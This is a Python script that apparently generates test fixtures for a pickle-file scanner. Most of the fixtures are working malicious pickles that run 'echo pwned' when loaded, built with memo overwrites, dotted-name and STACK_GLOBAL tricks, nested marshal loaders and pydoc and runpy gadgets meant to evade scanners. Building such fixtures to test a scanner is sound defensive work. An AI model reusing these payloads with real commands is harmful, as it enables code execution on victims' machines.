#!/usr/bin/python3
"""Writes the pickle fixtures of Rampart's pickle tests (src/model/scan/pickle/testdata/).

Run with Debian's Python, which has torch 1.13, scikit-learn 1.2, numpy and joblib:

    /usr/bin/python3 src/model/scan/pickle/testdata/make_pickles.py [--verify]

Every malicious fixture runs the harmless command `echo pwned` when loaded. `--verify` loads
each malicious fixture in a child Python and checks that it really prints "pwned" (or, for
the nested/broken ones, that it at least gets that far), so the tests exercise real
exploits, not shapes that only look like them. Fixtures stay small (< 50 KB each) and are
committed; re-running the script rewrites them (the torch and sklearn ones are seeded).
"""

import io
import marshal
import os
import pickle
import struct
import subprocess
import sys
import zipfile
from pickle import (
    APPEND,
    BINGET,
    BINPUT,
    BINUNICODE,
    BUILD,
    DICT,
    EMPTY_DICT,
    GLOBAL,
    INST,
    MARK,
    MEMOIZE,
    NEWOBJ,
    NONE,
    OBJ,
    POP,
    PROTO,
    PUT,
    GET,
    REDUCE,
    SHORT_BINBYTES,
    SHORT_BINUNICODE,
    STACK_GLOBAL,
    STOP,
    STRING,
    TUPLE,
    TUPLE1,
    TUPLE2,
    UNICODE,
)

HERE = os.path.dirname(os.path.abspath(__file__))
CMD = "echo pwned"
MALICIOUS = []


def write(name, data, malicious=False):
    assert len(data) < 50_000, name
    with open(os.path.join(HERE, name), "wb") as f:
        f.write(data)
    if malicious:
        MALICIOUS.append(name)


def su(text):
    """SHORT_BINUNICODE."""
    raw = text.encode("utf-8")
    return SHORT_BINUNICODE + bytes([len(raw)]) + raw


def bu(text):
    """BINUNICODE."""
    raw = text.encode("utf-8")
    return BINUNICODE + struct.pack("<I", len(raw)) + raw


class Evil:
    def __reduce__(self):
        return (os.system, (CMD,))


# 1. The classic __reduce__ payload in every protocol.
for proto in range(6):
    write(f"reduce_os_system_p{proto}.pkl", pickle.dumps(Evil(), protocol=proto), True)

# 2. Memo tricks.
# A safe global stored at slot 1, overwritten by posix.system, fetched later and called.
write(
    "memo_overwrite.pkl",
    PROTO + b"\x02"
    + GLOBAL + b"collections\nOrderedDict\n" + BINPUT + b"\x01" + POP
    + GLOBAL + b"posix\nsystem\n" + BINPUT + b"\x01" + POP
    + BINGET + b"\x01" + bu(CMD) + TUPLE1 + REDUCE + STOP,
    True,
)
# BINPUT and MEMOIZE mixed (picklescan issue #14): MEMOIZE stores at len(memo), so the
# "safe" strings land at slots 2 and 3 while slots 0 and 1 hold "os" and "system".
write(
    "memo_mixed.pkl",
    PROTO + b"\x04"
    + su("os") + BINPUT + b"\x00" + POP
    + su("system") + BINPUT + b"\x01" + POP
    + su("torch._utils") + MEMOIZE + POP
    + su("_rebuild_tensor_v2") + MEMOIZE + POP
    + BINGET + b"\x00" + BINGET + b"\x01" + STACK_GLOBAL
    + su(CMD) + TUPLE1 + REDUCE + STOP,
    True,
)
# Protocol 0 text memo: PUT/GET with decimal indexes, slot overwritten.
write(
    "memo_text_p0.pkl",
    GLOBAL + b"collections\nOrderedDict\n" + PUT + b"7\n" + POP
    + GLOBAL + b"os\nsystem\n" + PUT + b"7\n" + POP
    + GET + b"7\n" + MARK + STRING + b"'" + CMD.encode() + b"'\n" + TUPLE + REDUCE + STOP,
    True,
)

# 3. STACK_GLOBAL with module and name from the memo, and with a computed module name.
write(
    "stack_global_memo.pkl",
    PROTO + b"\x04"
    + su("posix") + MEMOIZE + su("system") + MEMOIZE + POP + POP
    + BINGET + b"\x00" + BINGET + b"\x01" + STACK_GLOBAL + su(CMD) + TUPLE1 + REDUCE + STOP,
    True,
)
write(
    "stack_global_computed.pkl",
    PROTO + b"\x04"
    + su("builtins") + su("str") + STACK_GLOBAL + su("os") + TUPLE1 + REDUCE
    + su("system") + STACK_GLOBAL + su(CMD) + TUPLE1 + REDUCE + STOP,
    True,
)

# 4. Dotted names and attribute chains.
# getattr(__import__("os"), "system")("echo pwned"), protocol 2.
write(
    "getattr_import_chain.pkl",
    PROTO + b"\x02"
    + GLOBAL + b"builtins\ngetattr\n"
    + MARK + GLOBAL + b"builtins\n__import__\n" + bu("os") + TUPLE1 + REDUCE + bu("system") + TUPLE
    + REDUCE + bu(CMD) + TUPLE1 + REDUCE + STOP,
    True,
)
# Protocol 4 module "os", name "system".
write(
    "stack_global_os_system_p4.pkl",
    PROTO + b"\x04" + su("os") + su("system") + STACK_GLOBAL + su(CMD) + TUPLE1 + REDUCE + STOP,
    True,
)
# Protocol 4 dotted name: module "site", name "os.system" (site imports os).
write(
    "dotted_site_os_system.pkl",
    PROTO + b"\x04" + su("site") + su("os.system") + STACK_GLOBAL + su(CMD) + TUPLE1 + REDUCE + STOP,
    True,
)
# Protocol 4 dotted name on the module itself: os + "path.join"-style chain to a function.
write(
    "dotted_os_path_join.pkl",
    PROTO + b"\x04" + su("os") + su("path.join") + STACK_GLOBAL + su("a") + su("b") + TUPLE2 + REDUCE
    + POP + su("posix") + su("system") + STACK_GLOBAL + su(CMD) + TUPLE1 + REDUCE + STOP,
    True,
)

# 5. INST (protocol 0) and OBJ (protocol 1).
write("inst_os_system.pkl", MARK + STRING + b"'" + CMD.encode() + b"'\n" + INST + b"os\nsystem\n" + STOP, True)
write("obj_os_system.pkl", MARK + GLOBAL + b"os\nsystem\n" + STRING + b"'" + CMD.encode() + b"'\n" + OBJ + STOP, True)

# 6. NEWOBJ with arguments on a process class (object.__new__ ignores them, but the import is
#    the point), followed by the classic call.
write(
    "newobj_popen.pkl",
    PROTO + b"\x02" + GLOBAL + b"subprocess\nPopen\n" + bu("echo") + TUPLE1 + NEWOBJ + POP
    + GLOBAL + b"posix\nsystem\n" + bu(CMD) + TUPLE1 + REDUCE + STOP,
    True,
)

# 7. BUILD on an imported object (modelscan issue #85): numpy.prod.a = "os",
#    numpy.prod.b = "system", then "numpy prod.a" / "numpy prod.b" feed STACK_GLOBAL.
write(
    "build_setattr_global.pkl",
    PROTO + b"\x05"
    + GLOBAL + b"numpy\nprod\n"
    + NONE + MARK + UNICODE + b"a\n" + UNICODE + b"os\n" + DICT + TUPLE2 + BUILD
    + NONE + MARK + UNICODE + b"b\n" + UNICODE + b"system\n" + DICT + TUPLE2 + BUILD
    + POP
    + GLOBAL + b"numpy\nprod.a\n" + PUT + b"0\n"
    + GLOBAL + b"numpy\nprod.b\n" + PUT + b"1\n"
    + POP + POP
    + GET + b"0\n" + GET + b"1\n" + STACK_GLOBAL
    + UNICODE + CMD.encode() + b"\n" + TUPLE1 + REDUCE + STOP,
    True,
)


# 8. Nested deserialisers.
class Nested:
    def __reduce__(self):
        return (pickle.loads, (pickle.dumps(Evil(), protocol=2),))


write("nested_pickle_loads.pkl", pickle.dumps(Nested(), protocol=4), True)

code = compile(f"__import__('os').system({CMD!r})", "<payload>", "exec")
write(
    "nested_marshal_loads.pkl",
    PROTO + b"\x04"
    + su("types") + su("FunctionType") + STACK_GLOBAL
    + su("marshal") + su("loads") + STACK_GLOBAL
    + pickle.BINBYTES + struct.pack("<I", len(marshal.dumps(code))) + marshal.dumps(code) + TUPLE1 + REDUCE
    + EMPTY_DICT + TUPLE2 + REDUCE
    + pickle.EMPTY_TUPLE + REDUCE + STOP,
    True,
)

# 9. A benign pickle followed by a malicious one.
write("stacked_benign_then_evil.pkl", pickle.dumps({"a": 1}, protocol=2) + pickle.dumps(Evil(), protocol=2), True)

# 10. Broken streams after the payload.
evil2 = pickle.dumps(Evil(), protocol=2)
assert evil2.endswith(STOP)
write("broken_no_stop.pkl", evil2[:-1], True)
write("broken_invalid_opcode.pkl", evil2[:-1] + b"\xff\xfe", True)


# 11. Scanner-bypass gadgets.
class Pager:
    def __reduce__(self):
        import pydoc

        return (pydoc.pipepager, ("pwned-by-pager\n", "cat"))


class RunCode:
    def __reduce__(self):
        import runpy

        return (runpy._run_code, (f"__import__('os').system({CMD!r})", {}))


write("gadget_pydoc_pipepager.pkl", pickle.dumps(Pager(), protocol=4), True)
write("gadget_runpy_run_code.pkl", pickle.dumps(RunCode(), protocol=4), True)


# 12. Benign real-world files.
import torch  # noqa: E402


class TinyNet(torch.nn.Module):
    """A model class defined in the training script, so torch.save records __main__.TinyNet."""

    def __init__(self):
        super().__init__()
        self.fc = torch.nn.Linear(4, 2)

    def forward(self, x):
        return self.fc(x)


def benign():
    import numpy as np
    from sklearn.linear_model import LogisticRegression

    torch.manual_seed(0)
    net = TinyNet()

    buf = io.BytesIO()
    torch.save(net.state_dict(), buf, _use_new_zipfile_serialization=False)
    write("torch_legacy_state_dict.pt", buf.getvalue())

    buf = io.BytesIO()
    torch.save(net, buf, _use_new_zipfile_serialization=False)
    write("torch_legacy_full_module.pt", buf.getvalue())

    buf = io.BytesIO()
    torch.save(net.state_dict(), buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as z:
        name = next(n for n in z.namelist() if n.endswith("/data.pkl"))
        write("torch_zip_data.pkl", z.read(name))

    rng = np.random.RandomState(0)
    x = rng.normal(size=(20, 3))
    y = (x[:, 0] + x[:, 1] > 0).astype(int)
    model = LogisticRegression().fit(x, y)
    write("sklearn_logistic_regression.pkl", pickle.dumps(model, protocol=4))

    arrays = {"ints": np.arange(12, dtype=np.int64).reshape(3, 4), "floats": np.linspace(0, 1, 5)}
    write("numpy_arrays_p2.pkl", pickle.dumps(arrays, protocol=2))
    write("numpy_arrays_p5.pkl", pickle.dumps(arrays, protocol=5))
    write("numpy_random_state.pkl", pickle.dumps(np.random.RandomState(0), protocol=4))
    write("benign_dict_p0.pkl", pickle.dumps({"name": "model", "layers": [1, 2, 3], "rate": 0.5}, protocol=0))


def verify():
    failed = []
    for name in MALICIOUS:
        path = os.path.join(HERE, name)
        loader = (
            "import pickle,sys\nf=open(sys.argv[1],'rb')\n"
            "while True:\n  try: pickle.load(f)\n  except EOFError: break\n"
        )
        run = subprocess.run([sys.executable, "-c", loader, path], capture_output=True, text=True, timeout=60)
        out = run.stdout + run.stderr
        ok = "pwned" in out
        print(f"{'ok ' if ok else 'NO '} {name}: exit {run.returncode}")
        if not ok:
            failed.append(name)
    if failed:
        sys.exit(f"fixtures that did not run their payload: {failed}")


if __name__ == "__main__":
    benign()
    if "--verify" in sys.argv:
        verify()
